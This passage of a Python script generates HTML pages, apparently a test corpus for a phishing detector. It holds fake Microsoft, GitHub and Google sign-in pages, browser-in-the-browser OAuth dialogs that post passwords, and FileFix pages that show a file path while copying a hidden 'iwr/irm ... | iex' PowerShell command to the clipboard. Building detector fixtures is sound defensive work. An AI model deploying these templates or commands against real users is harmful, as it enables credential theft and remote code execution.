x.fillStyle='#737373';x.font='600 19px Segoe UI,Arial,sans-serif';x.fillText('Microsoft',30,19);
x.fillStyle='#1b1b1b';x.font='600 24px Segoe UI,Arial,sans-serif';x.fillText('Sign in',0,62);"""
    write('secure-payslip-view.com', '/index.html', doc('\u200b', f"""<main class="card"><canvas id="hd" width="352" height="76" aria-hidden="true"></canvas>
{MS_FORM.format(who='', email='')}</main><script>{draw_ms}</script>""", MS_CSS))
    draw_gh = """const c=document.getElementById('hd'),x=c.getContext('2d');x.fillStyle='#1f2328';x.font='300 24px -apple-system,Segoe UI,Helvetica,Arial,sans-serif';x.textAlign='center';x.fillText('Sign in to GitHub',154,28);"""
    write('actions-runner-login.dev', '/index.html', doc('\u200b', f"""<div class="top"><img alt="" width="48" height="48" src="data:image/svg+xml;base64,{base64.b64encode(GH_MARK.encode()).decode()}"></div>
<div style="text-align:center"><canvas id="hd" width="308" height="40"></canvas></div><div class="box">{GH_FORM}</div><script>{draw_gh}</script>""", GH_CSS))


# ---------------------------------------------------------------- family 8: FileFix (File Explorer address bar)

FF_CSS = """.path{display:flex;border:1px solid #8a8886;margin:12px 0}.path code{flex:1;padding:8px;font-size:13px;overflow:hidden;white-space:nowrap}.path button{border:0;background:#0067b8;color:#fff;padding:0 14px;cursor:pointer}
.steps{padding-left:20px}.steps li{margin:8px 0;font-size:14px}kbd{border:1px solid #999;border-radius:3px;padding:0 5px;background:#f7f7f7}"""


def fam8():
    shown = r'C:\company\internal-secure\filedrive\HRPolicy.docx'
    cmd = 'powershell -w h -c "iwr https://sp-filedrive.net/p.ps1|iex"' + ' ' * 60 + '# ' + shown
    write('sp-filedrive.net', '/sites/hr/index.html', ms_page(
        'SharePoint', 'Microsoft', 'This file is on a shared drive',
        f"""<p class="small">To open <b>HRPolicy.docx</b> shared with you by HR, open it from File Explorer:</p>
  <ol class="steps"><li>Copy the file path below</li><li>Open File Explorer (<kbd>Win</kbd> + <kbd>E</kbd>) and select the address bar (<kbd>Ctrl</kbd> + <kbd>L</kbd>)</li><li>Paste the path and press <kbd>Enter</kbd></li></ol>
  <div class="path"><code>{shown}</code><button onclick="{html.escape(clip(cmd))}">Copy</button></div>
  <div class="btns"><button class="btn" onclick="{html.escape(clip(cmd))};alert('Now paste it in File Explorer')">Open File Explorer</button></div>""",
        extra_css=FF_CSS))
    shown = r'\\drive-sync\shared\Finance\Invoice_4471.pdf'
    cmd = 'cmd /c start /min powershell -c "irm https://gdrive-sync-open.com/d|iex"' + ' ' * 70 + '# ' + shown
    write('gdrive-sync-open.com', '/drive/folders/0AbX/index.html', google_page(
        'Google Drive', 'Open in Drive for desktop', 'This file can only be opened with Google Drive for desktop.',
        f"""<ol class="steps"><li>Click <b>Copy path</b></li><li>Press <kbd>Win</kbd> + <kbd>E</kbd>, then click the address bar</li><li>Paste with <kbd>Ctrl</kbd> + <kbd>V</kbd> and press <kbd>Enter</kbd></li></ol>
  <div class="path"><code>{shown}</code><button onclick="{html.escape(clip(cmd))}">Copy path</button></div>""",
        extra_css=FF_CSS.replace('#0067b8', '#0b57d0')))


# ---------------------------------------------------------------- family 9: browser-in-the-browser in the top layer, its address bar a picture

BITB_CSS = """
dialog{padding:0;border:0;border-radius:8px;box-shadow:0 10px 40px #0006;width:460px}
dialog::backdrop{background:#0005}
.chrome{background:#dee1e6;padding:6px 10px;font:12px system-ui;display:flex;gap:8px;align-items:center}
.chrome .dots span{display:inline-block;width:11px;height:11px;border-radius:50%;margin-right:5px}
.win{padding:28px 36px;font-family:Roboto,Arial,sans-serif}
.win .inp{width:100%;box-sizing:border-box;border:1px solid #747775;border-radius:4px;padding:13px;font-size:15px;margin:6px 0 10px}
.win .btn{background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:9px 22px;float:right}
"""


def fam9():
    bar = ('<svg xmlns="http://www.w3.org/2000/svg" width="330" height="22"><rect width="330" height="22" rx="11" fill="#fff"/><path d="M12 8h6v7h-6z M13 8v-2a2 2 0 0 1 4 0v2" fill="none" stroke="#444"/>'
           '<text x="26" y="15" font-size="12" font-family="Arial" fill="#202124">accounts.google.com/o/oauth2/auth?client_id=…</text></svg>')
    write('tripsplit-deals.com', '/index.html', doc('TripSplit – save on group trips', f"""<h1 style="font-family:Arial">TripSplit</h1><p>Split costs with friends.</p>
<button id="go" onclick="document.getElementById('w').showModal()">Continue with Google</button>
<dialog id="w"><div class="chrome"><span class="dots"><span style="background:#ff5f57"></span><span style="background:#febc2e"></span><span style="background:#28c840"></span></span>
<img alt="" src="data:image/svg+xml;base64,{base64.b64encode(bar.encode()).decode()}"></div>
<div style="font:14px Roboto,Arial;padding:10px 16px;border-bottom:1px solid #ddd">Sign in with Google</div><div class="win">{GOOGLE_LOGO}<h2 style="font-weight:400">Sign in</h2><p>to continue to TripSplit</p>
<form action="/oauth/cb" method="post"><input class="inp" type="email" name="identifier" placeholder="Email or phone"><input class="inp" type="password" name="Passwd" placeholder="Enter your password"><button class="btn">Next</button></form></div></dialog>
<script>document.getElementById('w').showModal()</script>""", BITB_CSS))
    draw = """const c=document.getElementById('url'),x=c.getContext('2d');x.fillStyle='#fff';x.beginPath();x.roundRect(0,0,340,22,11);x.fill();x.fillStyle='#1a7f37';x.font='12px Arial';x.fillText('🔒',8,15);x.fillStyle='#202124';x.fillText('https://github.com/login/oauth/authorize?client_id=Iv1.8a61',26,15);"""
    write('snippet-box.app', '/index.html', doc('SnippetBox', f"""<h1 style="font-family:Arial">SnippetBox</h1><p>Save code snippets from any repo.</p>
<dialog id="w"><div class="chrome"><span class="dots"><span style="background:#ff5f57"></span><span style="background:#febc2e"></span><span style="background:#28c840"></span></span><canvas id="url" width="340" height="22"></canvas></div>
<div class="win" style="background:#f6f8fa;text-align:center">{GH_MARK}<h2 style="font-weight:300">Sign in to GitHub</h2><p>to continue to <b>SnippetBox</b></p>
<form action="/oauth/cb" method="post" style="text-align:left"><label>Username or email address</label><input class="inp" type="text" name="login"><label>Password</label><input class="inp" type="password" name="password"><button class="btn" style="background:#1f883d;width:100%;float:none">Sign in</button></form></div></dialog>
<script>{draw};document.getElementById('w').showModal()</script>""", BITB_CSS))


# ---------------------------------------------------------------- ordinary pages that must stay quiet

PLAIN = """
body{margin:0;font-family:system-ui,-apple-system,"Segoe UI",Roboto,Arial,sans-serif;background:#f4f5f7;color:#222}
.box{width:460px;margin:60px auto;background:#fff;border-radius:8px;box-shadow:0 2px 10px #0002;padding:32px;box-sizing:border-box}
h1{font-size:22px;margin:0 0 18px}
.inp{width:100%;box-sizing:border-box;border:1px solid #bbb;border-radius:4px;padding:9px;font-size:15px;margin:4px 0 14px}
.btn{background:#2a6;color:#fff;border:0;border-radius:4px;padding:9px 18px;font-size:15px;cursor:pointer}
pre{background:#1e1e1e;color:#eee;padding:12px;border-radius:6px;overflow:auto}
kbd{border:1px solid #999;border-radius:3px;padding:0 5px;background:#f7f7f7}
"""


def plain(title, body):
    return doc(title, f'<div class="box">{body}</div>', PLAIN)


def ordinary():
    # a CLI's install page: open PowerShell and paste, then sign in with GitHub from the CLI
    write('get.shipyard-cli.dev', '/install/index.html', plain('Install Shipyard CLI', """<h1>Install the Shipyard CLI</h1>
<p>On Windows, press <kbd>Win</kbd> + <kbd>X</kbd>, open <b>Terminal</b> and paste:</p>
<pre id="c">irm https://get.shipyard-cli.dev/install.ps1 | iex</pre><button class="btn" onclick="navigator.clipboard.writeText(document.getElementById('c').textContent)">Copy</button>
<p>Then run <code>shipyard login</code>: it opens GitHub in your browser so you can authorize Shipyard.</p>"""))
    # the site's own "verify you are human" checkbox
    write('tickets.riverside-arena.com', '/queue/index.html', plain('Riverside Arena – queue', """<h1>Checking you are human</h1>
<p>Tickets for the concert go on sale in 2 minutes. Tick the box to join the queue.</p>
<label style="display:flex;gap:10px;align-items:center;border:1px solid #ccc;padding:14px;width:260px"><input type="checkbox"> I'm not a robot</label>
<p style="font-size:12px">Protected by our own bot check. We never ask you to run anything on your computer.</p>"""))
    # an article about ClickFix quoting the steps
    write('secnotes-weekly.blog', '/2027/clickfix-explained/index.html', doc('ClickFix explained', """<article style="max-width:720px;margin:40px auto;font-family:Georgia,serif;line-height:1.6">
<h1>ClickFix explained: why a “CAPTCHA” asks you to press Win+R</h1>
<p>Fake Microsoft and Google “verify you are human” pages tell the visitor to press <kbd>Windows</kbd> + <kbd>R</kbd>, then <kbd>Ctrl</kbd> + <kbd>V</kbd>, then <kbd>Enter</kbd>. The button on the page has already copied a PowerShell command to the clipboard.</p>
<blockquote>“Verify you are human. 1. Press Windows + R. 2. Press Ctrl + V. 3. Press Enter.”</blockquote>
<p>No real CAPTCHA, and no real Microsoft or Google page, ever asks you to run a command. FileFix is the same trick with the File Explorer address bar.</p>
</article>""", 'body{background:#fff;color:#222}'))
    # a restaurant's "scan to see the menu" QR
    write('www.harbor-kitchen.com', '/table/12/index.html', plain('Harbor Kitchen – table 12', f"""<h1>Harbor Kitchen</h1><p>Scan to open the menu and order from your phone.</p>
<div style="text-align:center">{qr_svg('https://www.harbor-kitchen.com/menu?t=12', 4)}</div><p style="font-size:13px">Sign in with Google or Apple to keep your favourites.</p>"""))
    # a chat app's own "scan to sign in on the desktop" QR
    write('web.chatterly.app', '/index.html', plain('Chatterly Web', f"""<h1>Use Chatterly on your computer</h1>
<ol><li>Open Chatterly on your phone</li><li>Tap <b>Settings → Linked devices</b></li><li>Point your phone at this screen to scan the code</li></ol>
<div style="text-align:center">{qr_svg('https://web.chatterly.app/link/91ac', 4)}</div>"""))
    # an infographic in SVG with foreignObject text (no form)
    write('data-stories.news', '/2027/sso-adoption/index.html', doc('How companies sign in', """<h1 style="font-family:Arial;text-align:center">How 2,000 companies sign in</h1>
<svg width="800" height="300" viewBox="0 0 800 300" style="display:block;margin:0 auto"><rect x="40" y="40" width="220" height="200" fill="#0078d4"/><rect x="290" y="90" width="220" height="150" fill="#34a853"/><rect x="540" y="160" width="220" height="80" fill="#24292f"/>
<foreignObject x="40" y="245" width="720" height="50"><div xmlns="http://www.w3.org/1999/xhtml" style="display:flex;justify-content:space-around;font:14px Arial">
<span>Microsoft Entra ID 48%</span><span>Google Workspace 31%</span><span>GitHub / other 21%</span></div></foreignObject></svg>""", 'body{background:#fff}'))
    # a consultancy's contact form with a textarea about a Google Workspace migration
    write('www.cloudmove-partners.com', '/contact/index.html', plain('Contact – CloudMove Partners', """<h1>Plan your Google Workspace migration</h1>
<form action="/contact" method="post"><label>Work email</label><input class="inp" type="email" name="email">
<label>Tell us about your current setup</label><textarea class="inp" name="msg" rows="5" placeholder="e.g. 300 mailboxes on Microsoft 365, shared drives…"></textarea>
<button class="btn">Send</button></form><p style="font-size:12px">Never send us passwords.</p>"""))
    # a site's own two-factor code page
    write('app.ledgerline.io', '/login/2fa/index.html', plain('Ledgerline – verify', """<h1>Two-factor authentication</h1>
<p>Enter the 6-digit code from your authenticator app.</p><form action="/login/2fa" method="post">
<input class="inp" type="text" name="otp" inputmode="numeric" autocomplete="one-time-code" maxlength="6"><button class="btn">Verify</button></form>"""))
    # a site's own login inside a web component's (open) shadow root, with provider buttons
    form = """<style>.inp{width:100%;box-sizing:border-box;border:1px solid #bbb;border-radius:4px;padding:9px;margin:4px 0 12px}.sso{display:block;width:100%;margin:6px 0;padding:8px;border:1px solid #ccc;background:#fff}</style>
<form action="/session" method="post"><input class="inp" type="email" name="email" placeholder="Email"><input class="inp" type="password" name="password" placeholder="Password"><button>Log in</button></form>
<button class="sso">Continue with Google</button><button class="sso">Continue with Microsoft</button><button class="sso">Continue with GitHub</button>"""
    write('app.tallyboard.io', '/login/index.html', plain('Tallyboard – log in', f"""<h1>Log in to Tallyboard</h1><tb-login></tb-login>
<script>customElements.define('tb-login',class extends HTMLElement{{constructor(){{super();this.attachShadow({{mode:'closed'}}).innerHTML={js(form)}}}}})</script>"""))
    # an online code playground: a big textarea and a "Connect GitHub" button
    write('play.codebench.dev', '/index.html', plain('CodeBench playground', """<h1>CodeBench</h1>
<textarea class="inp" rows="10" spellcheck="false" style="font-family:monospace">fn main() {\n    println!("hello");\n}</textarea>
<button class="btn">Run</button> <button class="btn" style="background:#24292f">Connect GitHub to save gists</button>"""))
    # a bank's own PIN page with a masked text field
    write('secure.northbank.co.uk', '/login/pin/index.html', plain('Northbank – passcode', """<h1>Enter your passcode</h1>
<form action="/login/pin" method="post"><input class="inp" type="text" name="pin" inputmode="numeric" maxlength="6" style="-webkit-text-security:disc"><button class="btn">Continue</button></form>"""))
    # an IT help page on re-registering Authenticator (no QR, links to Microsoft)
    write('it.fabrikam-college.edu', '/help/mfa/index.html', plain('IT help – MFA', """<h1>Re-register Microsoft Authenticator</h1>
<p>Go to <a href="https://aka.ms/mfasetup">aka.ms/mfasetup</a>, sign in with your college account, choose <b>Add sign-in method</b> and scan the QR code Microsoft shows you there with the Authenticator app.</p>
<p>We will never send you a QR code by e-mail or show one on this site.</p>"""))


if __name__ == '__main__':
    fam1()
    fam2()
    fam3()
    fam4()
    fam5()
    fam6()
    fam7()
    fam8()
    fam9()
    ordinary()
